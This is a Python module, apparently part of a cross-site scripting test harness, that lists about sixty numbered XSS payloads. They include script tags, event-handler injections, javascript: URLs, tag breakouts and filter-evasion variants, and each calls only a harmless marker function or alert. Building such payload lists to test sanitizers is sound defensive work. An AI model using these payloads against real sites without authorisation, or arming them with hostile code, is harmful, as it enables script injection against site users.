"""Cross-site scripting payloads: each one, if it ever runs, calls ``__xss(n)`` or ``alert(n)`` with its number."""

from __future__ import annotations

_TEMPLATES = (
    "<script>X</script>",
    "<img src=x onerror=X>",
    '<img src="x" onerror="X">',
    "<svg onload=X>",
    "<svg/onload=X>",
    "<img/src/onerror=X>",
    "<svg><script>X</script></svg>",
    '"><script>X</script>',
    "'><img src=x onerror=X>",
    '"><img src=x onerror=X>',
    "</textarea><script>X</script>",
    "</title><script>X</script>",
    "</script><script>X</script>",
    "</style><script>X</script>",
    "<body onload=X>",
    "<body onpageshow=X>",
    '<iframe srcdoc="<script>parent.X</script>"></iframe>',
    "<details open ontoggle=X>",
    "<input autofocus onfocus=X>",
    "<select autofocus onfocus=X>",
    "<textarea autofocus onfocus=X>",
    "<video><source onerror=X></video>",
    "<audio src=x onerror=X>",
    "<marquee onstart=X>",
    '<a href="javascript:X">click</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=X>",
    '<object data="javascript:X"></object>',
    '<embed src="javascript:X">',
    "<form><button formaction=javascript:X>go</button></form>",
    "<svg><animate onbegin=X attributeName=x dur=1s>",
    '<link rel=stylesheet href="javascript:X">',
    '<meta http-equiv="refresh" content="0;url=javascript:X">',
    '<base href="javascript:X//">',
    "<img src=`x` onerror=X>",
    '<img """><script>X</script>">',
    '<noscript><p title="</noscript><img src=x onerror=X>">',
    "<xmp><script>X</script></xmp>",
    '<svg><a xlink:href="javascript:X"><text y=20>go</text></a></svg>',
    "<img srcset=x onerror=X>",
    "<div onmouseover=X>hover</div>",
    "<frameset onload=X>",
    "<img src=x onerror=\"window['__x'+'ss'](N)\">",
    '<!--<img src="--><img src=x onerror=X//">',
    "<![CDATA[<script>X</script>]]>",
    "<SCRIPT>X</SCRIPT>",
    "<ScRiPt>X</sCrIpT>",
    "<scr<script>ipt>X</scr</script>ipt>",
    "{{constructor.constructor('X')()}}",
    "${X}",
    '";X;"',
    "';X;'",
    "`;X;`",
    "javascript:X",
    "<img src=x onerror=alert(N)>",
    "<svg onload=alert(N)>",
    "<script>alert(N)</script>",
    "<iframe src=javascript:alert(N)></iframe>",
    "<a href=javascript:alert(N) id=xss>x</a>",
    "<img src=x onerror=&#95;&#95;xss(N)>",
    "<style>*{background:url('javascript:X')}</style>",
)


def payloads() -> list[str]:
    """The payloads, numbered from 0 (the number is what a hit reports)."""
    out = []
    for n, template in enumerate(_TEMPLATES):
        out.append(template.replace("X", f"__xss({n})").replace("(N)", f"({n})"))
    return out
